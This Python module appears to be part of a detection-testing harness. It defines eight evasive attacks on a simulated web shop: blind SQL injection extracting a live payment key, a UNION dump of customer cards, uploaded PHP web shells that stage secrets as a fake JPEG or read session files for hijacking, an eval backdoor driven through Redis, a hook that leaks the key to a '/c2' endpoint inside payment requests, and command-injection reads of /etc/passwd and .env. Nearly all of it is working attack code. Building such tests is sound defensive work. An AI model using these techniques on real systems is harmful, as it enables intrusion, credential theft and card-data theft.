"""The evasive ones of the attacks of unseen.py: padded, slow, split, or by what happens all day anyway."""
import gzip
import re
import time

from common import SECRET, mark
from test import Relay, watch_for
from unseen_common import KEY, tell_redis, words


def blind_sql(enemy):
    """The payment key letter by letter: the search finds something, or nothing."""
    secret = "pg_read_file('/srv/api/.env')"

    def holds(condition):
        time.sleep(0.12)
        return b"thing 7" in enemy.sql(f"thing 7%' and {condition} and name like '%thing")

    def number(expression, low, high):
        while low < high:
            middle = (low + high) // 2
            low, high = (middle + 1, high) if holds(f"{expression} > {middle}") else (low, middle)
        return low

    start, found = number(f"strpos({secret}, 'sk_live_')", 0, 255) + 8, ""
    while len(found) < 12 and (letter := chr(number(f"ascii(substr({secret}, {start + len(found)}, 1))", 10, 57))).isdigit():
        found += letter
    # It knows that it is right where the answer says so once more.
    if found and holds(f"strpos({secret}, 'PAYMENT_KEY=sk_live_{found}') > 0"):
        mark("harm")


def slow_dump_by_search(enemy):
    """Ten customers at a time as if they were products, between ordinary questions."""
    got = set()
    for turn in range(11):
        enemy.sql(str(enemy.random.randrange(100)))
        enemy.pause(0.25)
        enemy.http("GET", f"/api/product/{enemy.random.randrange(1, 2000)}")
        enemy.pause(0.25)
        answer = enemy.sql(f"zz' union select id, name || ' ' || card from customer where id between {turn * 10 + 1} and {turn * 10 + 10} --")
        got.update(re.findall(rb"customer \d+ [0-9a-f]{32}", answer))
        if len(got) >= 100:
            mark("harm")
        enemy.pause(0.25)


def staged_archive(enemy):
    """PHP packs what is worth having beside the pictures, gives it their age, and it is fetched in parts like a picture."""
    enemy.upload("album.php", b"""<?php
$to = __DIR__ . '/album.tar'; $archive = new PharData($to);
foreach (array_merge(glob('/srv/api/current/*.py'), ['/srv/api/.env', '/etc/nginx/nginx.conf', '/srv/orders/server.js', '/etc/passwd']) as $path) { $archive->addFile($path, ltrim($path, '/')); usleep(100000); }
$archive->compress(Phar::GZ); unset($archive); unlink($to); rename("$to.gz", __DIR__ . '/picture-207.jpeg'); touch(__DIR__ . '/picture-207.jpeg', filemtime(__DIR__ . '/picture-1.jpg')); unlink(__FILE__); echo 'packed';""")
    enemy.php("album.php")
    got = b""
    for at in range(0, 40_000, 900):
        answer = enemy.http("GET", "/uploads/picture-207.jpeg", more=f"Range: bytes={at}-{at + 899}\r\n")
        head, _, part = answer.partition(b"\r\n\r\n")
        got += part if b" 206 " in head[:20] else b""
        if b" 206 " not in head[:20] or len(part) < 900:
            break
        enemy.pause(0.9)
    try:
        if SECRET in gzip.decompress(got):
            mark("harm")
    except (OSError, EOFError):
        pass


def session_theft(enemy):
    """PHP reads what PHP reads all day: the files of sessions, one at a time; then the attacker is somebody else."""
    enemy.upload("basket-2.php", b"<?php $d = '/var/lib/php/sessions/'; if (isset($_GET['s'])) readfile($d . basename($_GET['s'])); else echo implode(' ', array_slice(scandir($d), -4));")
    for name in re.findall(rb"sess_(\w+)", enemy.php("basket-2.php").partition(b"\r\n\r\n")[2]):
        name = name.decode()
        enemy.pause(1)
        enemy.php("basket-2.php", s=f"sess_{name}")
        enemy.pause(0.7)
        page = enemy.http("GET", "/?p=3&theme=plain", more=f"Cookie: PHPSESSID={name}\r\n")
        if (seen := re.search(rb"(\d+) pages seen", page)) and int(seen[1]) > 1:
            mark("harm")


def dead_drop_in_redis(enemy):
    """A thread in the API takes its orders from a key in Redis and leaves its answers in another; the Node process fetches them."""
    enemy.python("""
import sys, threading, time, os
m = sys.modules['app']
def work():
    for n in range(15):
        got = m.redis(b'GET', b'session:7f')
        if got[:1] == b'$' and got[1:2] != b'-':
            m.redis(b'DEL', b'session:7f')
            try: said = str(eval(got.split(b'\\r\\n', 1)[1].strip().decode()))
            except Exception as error: said = repr(error)
            m.redis(b'SETEX', b'session:80', b'30', said[:900].encode())
        time.sleep(0.6)
threading.Thread(target=work, daemon=True).start()
r = 1""")
    for task in ["os.listdir('/srv/api')", "open('/srv/api/.env').read()", "open('/etc/passwd').read()", "str(os.uname())"]:
        tell_redis(enemy, ("SETEX", "session:7f", "30", task))
        enemy.pause(1.4)
        enemy.javascript(f"(() => {{ const s = net.connect(6379, '127.0.0.1'); globalThis.kept = ''; s.on('data', (d) => {{ globalThis.kept += d; s.destroy(); }}); s.write({words('GET', 'session:80')}); return 1; }})()")
        enemy.pause(0.4)
        if b"$" in enemy.javascript("globalThis.kept") and b"$-1" not in enemy.javascript("globalThis.kept"):
            mark("harm")


def piggyback_on_payments(enemy):
    """No connection of its own: what the provider is asked for anyway carries nine letters more, until all is told."""
    Relay()
    enemy.javascript("""(() => {
  const real = http.request, text = fs.readFileSync('/srv/api/.env', 'utf8').match(/PAYMENT_KEY=\\S+/)[0];
  let at = 0;
  http.request = (options, then) => {
    if (options.path !== '/pay') return real(options, then);
    const piece = text.slice(at, at + 9), request = real({ ...options, path: '/c2' }, then), end = request.end.bind(request);
    at += 9;
    if (at >= text.length) http.request = real;
    request.end = (body) => end(body.slice(0, -1) + ',"trace":"' + piece + '"}');
    return request;
  };
  setTimeout(() => { http.request = real; }, 13000); return 1;
})()""")

    def told():
        with open("c2.out", "rb") as file:
            pieces = re.findall(rb'"trace":"([^"]*)"', file.read())
        # The last one is shorter.
        return pieces and len(pieces[-1]) < 9 and KEY.search(b"".join(pieces))

    watch_for(told, 12.5)


def reading_by_file(enemy):
    """Nothing is started but what each upload starts: `file`, told to take its names out of another file, complains of each line."""
    enemy.upload("kind.php", b"<?php echo shell_exec('file -b --mime-type -f ' . escapeshellarg($_GET['f']));")
    for path in ["/etc/hosts", "/etc/passwd", "/srv/api/.env", "/srv/orders/providers.json"]:
        if SECRET in enemy.php("kind.php", f=path):
            mark("harm")
        enemy.pause(1.6)


def builtins_only(enemy):
    """The shell that the API starts anyway, and nothing below it: its own `read` and `echo`."""
    say = "while read -r l; do echo \"$l\"; done <"
    for command in ["echo /srv/* /srv/api/* /home/*", f"{say} /etc/passwd", f"{say} /srv/api/.env", f"{say} /proc/net/tcp",
                    "for p in /proc/[0-9]*; do read -r c < $p/comm && echo $p $c; done"]:
        if SECRET in enemy.inject(command):
            mark("harm")
        enemy.pause(1.4)


ATTACKS = {
    "blind-sql": blind_sql,
    "slow-dump-by-search": slow_dump_by_search,
    "staged-archive": staged_archive,
    "session-theft": session_theft,
    "dead-drop-in-redis": dead_drop_in_redis,
    "piggyback-on-payments": piggyback_on_payments,
    "reading-by-file": reading_by_file,
    "builtins-only": builtins_only,
}
